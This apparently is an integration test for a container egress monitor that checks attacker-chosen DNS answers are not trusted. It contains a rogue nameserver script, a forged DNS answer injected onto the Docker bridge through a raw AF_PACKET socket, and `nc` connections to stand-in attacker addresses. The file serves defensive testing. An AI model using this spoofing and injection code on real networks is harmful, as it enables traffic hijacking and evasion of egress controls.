// DNS answers chosen by the attacker, tried as an attacker would on the real stack: with
// `egress_allowlist: [allowed.example]`, a container asks a nameserver of its own (a second DNS
// server on the test host, 203.0.113.66) for allowed.example, gets an address it controls, and
// connects there — that connection must alert. A container that forges a DNS answer onto the
// bridge (AF_PACKET from its own network namespace, no query behind it) must not rename anything
// either. The benign twin: the name resolved through Docker's embedded DNS and the daemon's real
// upstream (203.0.113.53) is believed, and its allowlisted connection raises nothing.
import { execFile, spawn, type ChildProcess } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { encode } from 'dns-packet';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { FlowRecord } from '../../collector/events.ts';
import { startAgent, type AgentProcess } from '../support/agent-process.ts';
import { ipv4Frame } from '../support/packet-builder.ts';
import { docker, removeContainers, removeNetworks, runContainer, uniqueName } from '../support/testenv.ts';
import { waitFor } from '../support/wait.ts';

const run = promisify(execFile);
const NETNS = 'sw-inet';
const ODD_DNS = '203.0.113.66';
const ATTACKER_TARGET = '203.0.113.20';
const FORGED_TARGET = '203.0.113.10';

/** The attacker's own nameserver: answers allowed.example (and anything) with ATTACKER_TARGET. */
const ODD_DNS_SCRIPT = `
const dgram = require('node:dgram');
const dns = require(${JSON.stringify(createRequire(import.meta.url).resolve('dns-packet'))});
const s = dgram.createSocket('udp4');
s.on('message', (m, r) => {
  let q; try { q = dns.decode(m); } catch { return; }
  const question = q.questions && q.questions[0]; if (!question) return;
  const answers = question.type === 'A' ? [{ type: 'A', name: question.name, ttl: 60, data: '${ATTACKER_TARGET}' }] : [];
  s.send(dns.encode({ type: 'response', id: q.id, flags: dns.RECURSION_AVAILABLE, questions: q.questions, answers }), r.port, r.address);
});
s.bind(53, '${ODD_DNS}', () => process.stdout.write('listening\\n'));
setTimeout(() => process.exit(0), 300000);
`;

interface Alert {
  rule: string;
  container: { name: string } | null;
  details: { flow?: FlowRecord };
}

describe('DNS answers chosen by the attacker', () => {
  const net = uniqueName('dns');
  const [attacker, forger, benign] = ['atk', 'forge', 'ok'].map((n) => uniqueName(`dns-${n}`)) as [
    string,
    string,
    string,
  ];
  const stateDir = mkdtempSync(path.join(tmpdir(), 'sw-dns-'));
  let agent: AgentProcess;
  let oddDns: ChildProcess;

  const alerts = async (name: string): Promise<Alert[]> =>
    ((await (await fetch(`${agent.baseUrl}/api/alerts?container=${name}`)).json()) as { alerts: Alert[] }).alerts;
  const flowTo = async (name: string, ip: string, port: number | null): Promise<FlowRecord | undefined> => {
    const { flows } = (await (await fetch(`${agent.baseUrl}/api/flows`)).json()) as { flows: FlowRecord[] };
    return flows.find((f) => f.src.container?.name === name && f.dst.ip === ip && f.dst.port === port);
  };
  const egressTo = async (name: string, ip: string, port: number | null) =>
    (await alerts(name)).find(
      (a) => a.rule === 'unexpected_egress' && a.details.flow?.dst.ip === ip && a.details.flow.dst.port === port,
    );

  beforeAll(async () => {
    await run('ip', ['-n', NETNS, 'addr', 'add', `${ODD_DNS}/32`, 'dev', 'lo']);
    // Safety: the odd nameserver must be reached through our own test host, nowhere else.
    const { stdout: route } = await run('ip', ['route', 'get', ODD_DNS]);
    expect(route).toContain('sw-inet-h');
    oddDns = spawn('ip', ['netns', 'exec', NETNS, process.execPath, '-e', ODD_DNS_SCRIPT], {
      stdio: ['ignore', 'pipe', 'inherit'],
    });
    await new Promise<void>((resolve) => oddDns.stdout?.once('data', () => resolve()));
    const config = path.join(stateDir, 'shipwatch.yaml');
    writeFileSync(
      config,
      [
        'learn: 0',
        // The daemon's --dns (scripts/testenv.sh): what Docker's embedded DNS forwards to.
        'dns_resolvers: ["203.0.113.53"]',
        'egress_allowlist: ["allowed.example", "partner.shipwatch.test", "203.0.113.53:53/udp"]',
      ].join('\n'),
    );
    await docker('network', 'create', net);
    const bridge = `br-${(await docker('network', 'inspect', '-f', '{{.Id}}', net)).slice(0, 12)}`;
    agent = await startAgent(['--config', config, '--state-dir', stateDir]);
    await waitFor(
      async () => {
        const health = (await (await fetch(`${agent.baseUrl}/healthz`)).json()) as {
          sources: Record<string, { state: string }>;
        };
        return health.sources[`capture:${bridge}`]?.state === 'up';
      },
      { timeout: 20_000, what: `capture on ${bridge}` },
    );
    await Promise.all([attacker, forger, benign].map((name) => runContainer(name, ['--network', net])));
  }, 90_000);

  afterAll(async () => {
    await agent?.stop();
    oddDns?.kill();
    await removeContainers(attacker, forger, benign);
    await removeNetworks(net);
    await run('ip', ['-n', NETNS, 'addr', 'del', `${ODD_DNS}/32`, 'dev', 'lo']).catch(() => undefined);
  });

  it('alerts on the connection to an address an odd nameserver gave for an allowlisted name', async () => {
    const stdout = await docker('exec', attacker, 'sh', '-c', `nslookup allowed.example ${ODD_DNS} || true`);
    expect(stdout).toContain(ATTACKER_TARGET); // the attacker did get its address
    await docker('exec', attacker, 'sh', '-c', `echo x | nc -w 2 ${ATTACKER_TARGET} 80 || true`);
    const alert = await waitFor(() => egressTo(attacker, ATTACKER_TARGET, 80), {
      timeout: 15_000,
      what: 'unexpected_egress to the attacker’s address',
    });
    expect(alert.details.flow?.dst.name).toBeNull();
  });

  it('lets a DNS answer forged onto the bridge rename nothing', async () => {
    const pid = await docker('inspect', '-f', '{{.State.Pid}}', forger);
    const ip = await docker('inspect', '-f', `{{(index .NetworkSettings.Networks "${net}").IPAddress}}`, forger);
    const answer = encode({
      type: 'response',
      id: 4242,
      questions: [{ type: 'A', name: 'partner.shipwatch.test' }],
      answers: [{ type: 'A', name: 'partner.shipwatch.test', data: FORGED_TARGET }],
    });
    const frame = ipv4Frame({
      src: '203.0.113.53',
      dst: ip,
      protocol: 'udp',
      srcPort: 53,
      dstPort: 40123,
      payload: answer,
    });
    frame.fill(0xff, 0, 6); // broadcast: every port of the bridge, and its capture, sees it
    // What a container holding CAP_NET_RAW (Docker's default) can do: a raw frame from its own namespace.
    const send = `import socket,sys; s=socket.socket(socket.AF_PACKET, socket.SOCK_RAW); s.bind(("eth0",0)); [s.send(bytes.fromhex(sys.argv[1])) for _ in range(3)]`;
    await run('nsenter', ['-t', pid, '-n', 'python3', '-c', send, frame.toString('hex')]);
    await docker('exec', forger, 'sh', '-c', `echo x | nc -w 2 ${FORGED_TARGET} 4444 || true`);
    const alert = await waitFor(() => egressTo(forger, FORGED_TARGET, 4444), {
      timeout: 15_000,
      what: 'unexpected_egress to the forged address',
    });
    expect(alert.details.flow?.dst.name).toBeNull();
    const counts = (await (await fetch(`${agent.baseUrl}/api/flows`)).json()) as { rejectedDnsAnswers: number };
    expect(counts.rejectedDnsAnswers).toBeGreaterThanOrEqual(2); // the odd nameserver's answer and the forged one
  });

  it('believes the embedded DNS’s real upstream: the allowlisted name is on the flow and raises nothing', async () => {
    // ICMP echo (busybox nc has no UDP): the flow stays in /api/flows until its idle timeout, long enough to read.
    await docker('exec', benign, 'sh', '-c', 'ping -c 2 -W 1 partner.shipwatch.test || true');
    const flow = await waitFor(() => flowTo(benign, ATTACKER_TARGET, null), {
      timeout: 15_000,
      what: 'the benign flow',
    });
    expect(flow.dst.name).toBe('partner.shipwatch.test');
    // Detection runs as the flow starts; a moment more covers the journal write before saying none.
    await new Promise((resolve) => setTimeout(resolve, 2000));
    expect(await egressTo(benign, ATTACKER_TARGET, null)).toBeUndefined();
  });
});
